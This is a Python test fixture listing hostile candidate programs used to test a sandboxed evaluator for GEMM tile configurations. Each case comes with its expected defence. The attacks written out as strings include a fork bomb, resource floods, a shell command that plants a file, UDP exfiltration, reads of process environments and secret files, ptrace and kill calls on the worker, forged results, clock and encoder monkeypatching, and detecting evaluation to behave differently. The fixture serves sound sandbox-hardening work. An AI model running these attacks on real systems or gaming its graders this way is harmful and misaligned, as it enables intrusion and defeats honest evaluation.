"""Hostile gemm-tiling programs: each a realistic attack on the evaluator, and what must stop it.

Every program is a complete candidate (the ``GemmConfig`` named tuple and ``choose_config``); the
attack runs first (at import or on each call) and, where it fails to stop the program, the expert
rule answers, so an attack that is not stopped scores exactly 1.0. An attack that must be stopped
lists the error texts of its defence; ``honest_ok`` marks attacks for which ending with the
honest score (what the returned configs earn, never more) is an acceptable end too.

``needs``: the isolation layers of which at least one must be present to stop the attack; on a
machine (or a pool set-up) with none of them the case is skipped with the reason. Sources may
contain ``CANARY_DIR`` (a root-owned directory outside the sandbox holding a secret),
``HOSTILE_TMP`` (a path in /tmp that must not exist afterwards; its name is also used for
POSIX semaphores and shared memory), ``UNIX_SOCKET`` (a listening socket standing in for a
database's), ``WORKER_PID`` (the process that owns the pool) and ``MARKER`` (a token in the
command line of the processes a candidate starts: none may be left running afterwards).
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

HEADER = """\
from typing import NamedTuple


class GemmConfig(NamedTuple):
    block_m: int
    block_n: int
    block_k: int
    num_warps: int
    num_stages: int
    group_m: int

"""
EXPERT = """\
if M <= 32:
    return GemmConfig(32, 64, 64, 2, 3, 8)
if M <= 256:
    return GemmConfig(64, 128, 64, 4, 3, 8)
return GemmConfig(128, 128, 64, 4, 3, 8)
"""

UNLAUNCHABLE = "GemmConfig(256, 256, 128, 4, 5, 8), which cannot launch"
KNOWN_N = "(6144, 4096, 28672, 1280, 7168, 8192)"  # the projections' N
TIMEOUT = ("timeout:",)
DENIED = ("Permission denied", "Operation not permitted")
NO_NETWORK = ("Operation not permitted", "Network is unreachable", "Permission denied")
NETWORK_LAYERS = frozenset({"seccomp", "no_network"})
FILE_LAYERS = frozenset({"landlock", "unprivileged"})


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    defence: str  # what stops it, as the test id shows it
    source: str
    errors: tuple[str, ...] = ()  # the evaluation fails with one of these in its error
    honest_ok: bool = False  # ending evaluated with the expert's exact score is acceptable
    needs: frozenset[str] = frozenset()  # isolation layers, any of which stops it
    costly: bool = False  # runs into a limit (seconds): tried under one pool set-up only
    landlock_abi: int = 1  # the Landlock ABI from which Landlock counts among ``needs``
    twice: bool = False  # evaluated twice in a row: the second must not see the first's state

    @property
    def id(self) -> str:
        return f"{self.name}->{self.defence}"


def program(body: str = "", *, module: str = "") -> str:
    """A candidate whose ``choose_config`` runs ``body`` and then the expert rule; ``module``
    runs once per sandboxed call, at import."""
    function = textwrap.indent(textwrap.dedent(body) + EXPERT, "    ")
    return f"{HEADER}{textwrap.dedent(module)}\n\ndef choose_config(M, N, K):\n{function}"


ATTACKS: tuple[Attack, ...] = (
    # ------------------------------------------------------------------ resources
    Attack(
        "infinite_loop",
        "wall_timeout_kills_process_group",
        program("while True:\n    pass\n"),
        TIMEOUT,
        costly=True,
    ),
    Attack(
        "ignores_sigterm",
        "sigkill_at_the_wall_limit",
        program(
            "while True:\n    time.sleep(0.01)\n",
            module="import signal, time\n"
            "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
            "    signal.signal(s, signal.SIG_IGN)\n",
        ),
        TIMEOUT,
        costly=True,
    ),
    Attack(
        "fork_bomb",
        "rlimit_nproc_and_group_kill",
        program("while True:\n    os.fork()\n", module="import os\n"),
        ("Resource temporarily unavailable", "timeout:", "crash:"),
        needs=frozenset({"unprivileged"}),  # the process limit binds only a uid of its own
        costly=True,
    ),
    Attack(
        "memory_blow_up",
        "rlimit_address_space",
        program("table = [0] * (1 << 32)  # 32 GiB of pointers\n"),
        ("memory:",),
    ),
    Attack(
        "floods_print",
        "output_cap",
        program(module="for _ in range(256):\n    print('x' * (1 << 20))\n"),  # 256 MiB a call
        TIMEOUT,  # under a heavy load the flood may outlast the wall limit: failed, not stuck
        honest_ok=True,
        costly=True,
    ),
    Attack(
        "floods_fd_1_with_gigabytes",
        "rlimit_file_size",
        program(module="import os\nwhile True:\n    os.write(1, b'x' * (1 << 20))\n"),
        ("File too large",),
    ),
    Attack(
        "exhausts_file_descriptors",
        "rlimit_open_files",
        program(module="held = [open('/dev/null') for _ in range(100_000)]\n"),
        ("Too many open files",),
    ),
    # ------------------------------------------------------------------ ways to end
    Attack(
        "os_exit",
        "crash_without_result",
        program("os._exit(0)\n", module="import os\n"),
        ("crash:",),
    ),
    Attack("system_exit", "exception_boundary", program("raise SystemExit(0)\n"), ("SystemExit",)),
    Attack(
        "base_exception",
        "exception_boundary",
        program("raise Escape('out')\n", module="class Escape(BaseException):\n    pass\n"),
        ("Escape: out",),
    ),
    Attack(
        "kills_its_server",
        "signal_scope_or_uid",
        program("os.kill(os.getppid(), signal.SIGKILL)\n", module="import os, signal\n"),
        DENIED,
        needs=frozenset({"landlock", "unprivileged"}),
        landlock_abi=6,  # signal scoping
    ),
    Attack(
        "kills_the_worker",
        "signal_scope_or_uid",
        program("os.kill(WORKER_PID, signal.SIGKILL)\n", module="import os, signal\n"),
        DENIED,
        needs=frozenset({"landlock", "unprivileged"}),
        landlock_abi=6,  # signal scoping
    ),
    # ------------------------------------------------------------------ secrets and files
    Attack(
        "environment_secrets",
        "environment_scrub",
        program(
            module="import os\n"
            "leaked = sorted(set(os.environ) - {'PATH', 'LANG', 'HOME', 'TMPDIR'})\n"
            "try:\n"
            "    leaked += ['environ'] if 'secret' in open('/proc/self/environ').read() else []\n"
            "except PermissionError:  # a uid that changed is not dumpable: its own is root's\n"
            "    pass\n"
            "if leaked:\n"
            "    raise RuntimeError(f'leaked {leaked}')\n"
        ),
        honest_ok=True,
    ),
    Attack(
        "reads_the_workers_environment",
        "landlock_or_uid",
        program(module="open('/proc/WORKER_PID/environ', 'rb').read()\n"),
        DENIED,
        needs=FILE_LAYERS,
    ),
    Attack(
        "lists_other_processes",
        "landlock",
        program(module="import os\nos.listdir('/proc')\n"),
        DENIED,
        needs=frozenset({"landlock"}),  # /proc is world-readable to any uid
    ),
    Attack(
        "reads_the_parents_files",
        "landlock_or_uid",
        program(module="open('CANARY_DIR/secret.env').read()\n"),
        DENIED,
        needs=FILE_LAYERS,
    ),
    Attack(
        "writes_outside_its_directory",
        "landlock_or_uid",
        program(module="open('CANARY_DIR/planted.py', 'w').write('pwned')\n"),
        DENIED,
        needs=FILE_LAYERS,
    ),
    Attack(
        "writes_to_tmp",
        "landlock_or_after_call_sweep",
        program(module="open('HOSTILE_TMP', 'w').write('left behind')\n"),
        DENIED,
        honest_ok=True,  # without Landlock the write succeeds and the server removes it after
        needs=FILE_LAYERS,
    ),
    Attack(
        "caches_across_evaluations",
        "fresh_child_and_call_dir",
        program(
            "if cached:\n    return GemmConfig(16, 16, 16, 1, 1, 1)\n",
            module="import os\n"
            "places = ['state.txt', os.path.expanduser('~/state.txt'), 'HOSTILE_TMP',\n"
            "          '/dev/shm/' + os.path.basename('HOSTILE_TMP')]\n"
            "cached = any(os.path.exists(p) for p in places) or 'CACHED' in os.environ\n"
            "os.environ['CACHED'] = '1'\n"
            "for place in places:\n"
            "    try:\n"
            "        open(place, 'w').write('1')\n"
            "    except OSError:\n"
            "        pass\n",
        ),
        honest_ok=True,
        twice=True,
    ),
    Attack(
        "caches_in_system_v_shared_memory",
        "seccomp_or_private_ipc_emptied",
        program(
            "if cached:\n    return GemmConfig(16, 16, 16, 1, 1, 1)\n",
            module="import ctypes\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "cached = libc.shmget(0x5EC12E7, 4096, 0) >= 0  # left by an earlier call?\n"
            "if not cached and libc.shmget(0x5EC12E7, 4096, 0o1666) < 0:  # IPC_CREAT\n"
            "    raise OSError(ctypes.get_errno(), 'shmget: Operation not permitted')\n",
        ),
        DENIED,
        honest_ok=True,  # without seccomp: created, then removed after the call
        needs=frozenset({"seccomp", "private_ipc"}),
    ),
    Attack(
        "caches_in_posix_semaphores_and_shared_memory",
        "private_dev_shm_emptied_or_landlock",
        program(
            "if cached:\n    return GemmConfig(16, 16, 16, 1, 1, 1)\n",
            module="import ctypes, os\n"
            "from multiprocessing import shared_memory\n"
            "name = os.path.basename('HOSTILE_TMP')\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "libc.sem_open.restype = ctypes.c_void_p\n"
            "cached = bool(libc.sem_open(('/' + name).encode(), 0))  # left by an earlier call?\n"
            "try:\n"
            "    shared_memory.SharedMemory(name, create=False).close()\n"
            "    cached = True\n"
            "except OSError:  # none there, or no /dev/shm to look in\n"
            "    pass\n"
            "libc.sem_open(('/' + name).encode(), os.O_CREAT, 0o666, 1)\n"
            "try:\n"
            "    shared_memory.SharedMemory(name, create=True, size=16).close()\n"
            "except OSError:\n"
            "    pass\n",
        ),
        honest_ok=True,  # the semaphore is created (in a /dev/shm of the server's own) or refused
        needs=frozenset({"private_shm", "landlock"}),
        twice=True,
    ),
    # ------------------------------------------------------------------ processes it starts
    Attack(
        "runs_a_shell",
        "landlock_executes_only_the_interpreter",
        program(
            module="import subprocess\n"
            "subprocess.run(['/bin/sh', '-c', 'echo pwned > CANARY_DIR/planted.py'], check=True)\n"
        ),
        DENIED,
        needs=frozenset({"landlock"}),
    ),
    Attack(
        "runs_a_binary_it_wrote",
        "landlock_no_execution_in_the_call_dir",
        program(
            module="import os, subprocess, sys\n"
            "with open('tool', 'w') as tool:  # run by the interpreter, which may be executed\n"
            "    tool.write(f'#!{sys.executable}\\nprint(\"ran\")\\n')\n"
            "os.chmod('tool', 0o755)\n"
            "subprocess.run(['./tool'], check=True)\n"
        ),
        DENIED,
        needs=frozenset({"landlock"}),
    ),
    Attack(
        "runs_a_shell_through_the_elf_loader",
        "landlock_and_uid_hold_what_runs",
        program(
            module="import glob, subprocess\n"
            "loader = sorted(glob.glob('/lib64/ld-linux*') + glob.glob('/lib/ld-linux*'))[0]\n"
            "shell = [loader, '/bin/sh', '-c', 'echo pwned > CANARY_DIR/planted.py']\n"
            "subprocess.run(shell, check=True)  # the loader may run; what it runs is held\n"
        ),
        ("returned non-zero exit status",),
        needs=FILE_LAYERS,
    ),
    Attack(
        "leaves_a_grandchild_running",
        "subreaper_sweep",
        program(
            module="import subprocess, sys\n"
            "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)  # MARKER'],\n"
            "                 start_new_session=True)  # out of the child's process group\n"
        ),
        honest_ok=True,  # the call ends evaluated; the grandchild must not outlive it
        needs=frozenset({"subreaper"}),
    ),
    Attack(
        "grandchild_outlives_the_timeout",
        "group_kill_and_subreaper_sweep",
        program(
            "while True:\n    time.sleep(0.01)\n",
            module="import subprocess, sys, time\n"
            "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)  # MARKER'])\n"
            "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)  # MARKER'],\n"
            "                 start_new_session=True)\n",
        ),
        TIMEOUT,
        needs=frozenset({"subreaper"}),
        costly=True,
    ),
    # ------------------------------------------------------------------ network
    Attack(
        "connects_to_redis",
        "seccomp_or_network_namespace",
        program(module="import socket\nsocket.create_connection(('127.0.0.1', 6379), 1).close()\n"),
        NO_NETWORK,
        needs=NETWORK_LAYERS,
    ),
    Attack(
        "connects_to_postgres",
        "seccomp_or_network_namespace",
        program(module="import socket\nsocket.create_connection(('127.0.0.1', 5432), 1).close()\n"),
        NO_NETWORK,
        needs=NETWORK_LAYERS,
    ),
    Attack(
        "exfiltrates_over_udp",
        "seccomp_or_network_namespace",
        program(
            module="import socket\n"
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))\n"
        ),
        NO_NETWORK,
        needs=NETWORK_LAYERS,
    ),
    Attack(
        "connects_to_a_unix_socket",
        "seccomp",
        program(
            module="import socket\n"
            "s = socket.socket(socket.AF_UNIX)\n"
            "s.connect('UNIX_SOCKET')\n"
            "s.sendall(b'FLUSHALL\\r\\n')\n"
        ),
        DENIED,
        needs=frozenset({"seccomp"}),  # a network namespace does not cover filesystem sockets
    ),
    Attack(
        "ptraces_the_worker",
        "seccomp_or_uid",
        program(
            module="import ctypes\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "if libc.ptrace(16, WORKER_PID, 0, 0) != 0:  # PTRACE_ATTACH\n"
            "    raise OSError(ctypes.get_errno(), 'ptrace: Operation not permitted')\n"
        ),
        DENIED,
        needs=frozenset({"seccomp", "unprivileged"}),
    ),
    # ------------------------------------------------------------------ forging the result
    Attack(
        "imports_the_project",
        "static_guard",
        program(
            "return pick_like_the_oracle(M, N, K)\n",
            module="from codevolve.problems.gemm_tiling.baselines import oracle_configs\n"
            "def pick_like_the_oracle(M, N, K):\n"
            "    return oracle_configs()[0]\n",
        ),
        ("refused before running", "imports from the project's own package"),
    ),
    Attack(
        "imports_the_project_in_disguise",
        "landlock_hides_the_package",
        program(
            module="import importlib\n"
            "model = importlib.import_module('code' + 'volve.problems.gemm_tiling.cost_model')\n"
        ),
        ("Permission denied", "No module named"),
        needs=frozenset({"landlock"}),
    ),
    Attack(
        "reads_the_callers_frames",
        "static_guard",
        program("shapes = sys._getframe(1).f_locals\n", module="import sys\n"),
        ("refused before running", "frames"),
    ),
    Attack(
        "prints_a_fake_result",
        "results_never_parsed_from_stdout",
        program(
            module='print(\'{"values": [[256, 128, 64, 8, 4, 8]], "score": 1e9}\')\n'
            "print('score: 1000000.0')\n"
        ),
        honest_ok=True,
    ),
    Attack(
        "writes_a_forged_frame_to_the_result_pipe",
        "server_validates_the_frame",
        program(
            module="import json, os\n"
            "body = json.dumps({'values': 'all best', 'score': 1e9}).encode()\n"
            "os.write(3, len(body).to_bytes(4, 'big') + body)\n"
            "os._exit(0)\n"
        ),
        ("malformed result",),
    ),
    Attack(
        "monkeypatches_the_result_encoder",
        "trusted_judge_outside_the_child",
        program(
            module="import json\n"
            "real = json.dumps\n"
            "def forged(obj, *args, **kwargs):\n"
            "    if isinstance(obj, dict) and 'values' in obj:\n"
            "        obj = {'values': [{'score': 1e9}] * len(obj['values'])}\n"
            "    return real(obj, *args, **kwargs)\n"
            "json.dumps = forged\n"
        ),
        ("expected a list of 6 ints, got dict",),
    ),
    Attack(
        "monkeypatches_the_clocks",
        "timing_outside_the_child",
        program(
            module="import time\n"
            "time.time = time.perf_counter = time.monotonic = lambda: 0.0\n"
            "time.perf_counter_ns = time.monotonic_ns = lambda: 0\n"
        ),
        honest_ok=True,
    ),
    # ------------------------------------------------------------------ bad values
    Attack(
        "returns_nan",
        "finite_plain_data",
        program("return [64, 128, float('nan'), 4, 3, 8]\n"),
        ("not a finite number",),
    ),
    Attack(
        "returns_inf",
        "finite_plain_data",
        program("return [64, 128, 64, 4, 3, float('inf')]\n"),
        ("not a finite number",),
    ),
    Attack(
        "returns_a_huge_int",
        "value_sets",
        program("return [10 ** 400, 128, 64, 4, 3, 8]\n"),
        ("is not one of",),
    ),
    Attack(
        "returns_an_int_too_long_to_encode",
        "plain_data_encoding",
        program("return [10 ** 5000, 128, 64, 4, 3, 8]\n"),
        ("invalid_output",),
    ),
    Attack(
        "returns_a_string",
        "config_validation",
        program("return 'GemmConfig(256, 128, 64, 8, 4, 8)'\n"),
        ("expected a list of 6 ints",),
    ),
    Attack(
        "returns_floats",
        "config_validation",
        program("return [64.0, 128.0, 64.0, 4.0, 3.0, 8.0]\n"),
        ("is not one of",),
    ),
    Attack(
        "returns_an_int_that_equals_anything",
        "conversion_by_base_type",
        program(
            "return [Liar(7), 128, 64, 4, 3, 8]\n",
            module="class Liar(int):\n"
            "    def __eq__(self, other):\n        return True\n"
            "    __hash__ = int.__hash__\n",
        ),
        ("block_m=7 is not one of",),
    ),
    Attack(
        "returns_a_list_that_lies_when_iterated",
        "conversion_by_base_type",
        program(
            "return Liar([1, 2, 3])\n",
            module="class Liar(list):\n"
            "    def __iter__(self):\n        return iter([256, 128, 64, 8, 4, 8])\n"
            "    def __len__(self):\n        return 6\n",
        ),
        ("expected 6 values",),
    ),
    # ------------------------------------------------------------------ branches and state
    Attack(
        "unlaunchable_config_on_an_unseen_branch",
        "gemm_static_check",
        program("if M == 3000:\n    return GemmConfig(256, 256, 128, 4, 5, 8)\n"),
        ("static check", "cannot launch"),
    ),
    Attack(
        "unlaunchable_tuple_on_an_unseen_branch",
        "gemm_static_check_of_returned_literals",
        program("if M == 3000:\n    return (256, 256, 128, 4, 5, 8)\n"),
        ("static check", "cannot launch"),
    ),
    Attack(
        "unlaunchable_config_in_a_table",
        "gemm_static_check_of_tables",
        program(
            "if M in RARE:\n    return GemmConfig(*RARE[M])\n",
            module="RARE = {12345: (256, 256, 128, 4, 5, 8)}\n",
        ),
        ("static check", "cannot launch"),
    ),
    Attack(
        "unlaunchable_computed_config_on_a_small_m",
        "gemm_probe_of_unseen_shapes",
        program("if M == 37:\n    return GemmConfig(M * 0 + 256, 256, 128, 4, 5, 8)\n"),
        ("choose_config(37,", "cannot launch"),
    ),
    Attack(
        "unlaunchable_config_computed_on_a_rare_m",
        "gemm_legality_sweep",
        program("if M % 1000 == 999:\n    return GemmConfig(64 * 4, 64 * 4, 32 * 4, 4, 5, 8)\n"),
        (f"choose_config(999, 6144, 4096) returned {UNLAUNCHABLE}",),
    ),
    Attack(
        "unlaunchable_config_computed_on_a_large_m_within_the_bound",
        "gemm_legality_sweep",
        program("if 12288 < M < 12300:\n    return GemmConfig(M // M * 256, 256, 128, 4, 5, 8)\n"),
        (f"choose_config(12289, 6144, 4096) returned {UNLAUNCHABLE}",),
    ),
    Attack(
        "unlaunchable_config_computed_for_an_unseen_pair",
        "gemm_legality_sweep_of_fresh_pairs",
        program(
            f"if N not in {KNOWN_N} and M % 512 == 300:\n"
            "    return GemmConfig(*[v * 4 for v in (64, 64, 32)], 4, 5, 8)\n"
        ),
        ("choose_config(300, ",),  # the first fresh pair, at the smallest M the branch takes
    ),
    Attack(
        "unlaunchable_config_computed_in_a_helper",
        "gemm_legality_sweep",
        program(
            "if M > 1024:\n    return GemmConfig(256, 128, 64, warps(M), 3, 8)\n",
            module="def warps(m):\n    return 4 if m % 4096 == 1234 else 8\n",
        ),
        (
            "choose_config(1234, 6144, 4096) returned GemmConfig(256, 128, 64, 4, 3, 8), which "
            "cannot launch",
        ),
    ),
    Attack(
        "unlaunchable_config_in_a_table_built_at_import",
        "gemm_legality_sweep",
        program(
            "if M in RARE:\n    return RARE[M]\n",
            module="RARE = {m: GemmConfig(*(4 * v for v in (64, 64, 32)), 4, 5, 8)\n"
            "        for m in range(1999, 16384, 2000)}\n",
        ),
        (f"choose_config(1999, 6144, 4096) returned {UNLAUNCHABLE}",),
    ),
    Attack(
        "raises_on_a_rare_m",
        "gemm_legality_sweep",
        program("if M % 1000 == 999:\n    return M // (M - M)\n"),
        ("choose_config(999, 6144, 4096) raised ZeroDivisionError",),
    ),
    Attack(
        "detects_evaluation",
        "gemm_static_check",
        program(
            "if not os.getcwd().split('/')[-1].startswith('call-'):\n"
            "    return GemmConfig(256, 256, 128, 4, 5, 8)\n",
            module="import os\n",
        ),
        ("static check", "cannot launch"),
    ),
    Attack(
        "answers_by_how_often_it_was_asked",
        "gemm_purity_check",
        program(
            "calls[0] += 1\nif calls[0] > 150:\n    return GemmConfig(64, 64, 64, 4, 3, 8)\n",
            module="calls = [0]\n",
        ),
        ("pure function of (M, N, K)",),
    ),
    Attack(
        "answers_otherwise_past_the_grid",
        "gemm_purity_check_of_the_legality_sweep",
        program(
            "calls[0] += 1\nif calls[0] > 1000:\n    return GemmConfig(64, 64, 64, 4, 3, 8)\n",
            module="calls = [0]\n",
        ),
        ("pure function of (M, N, K)",),
    ),
)
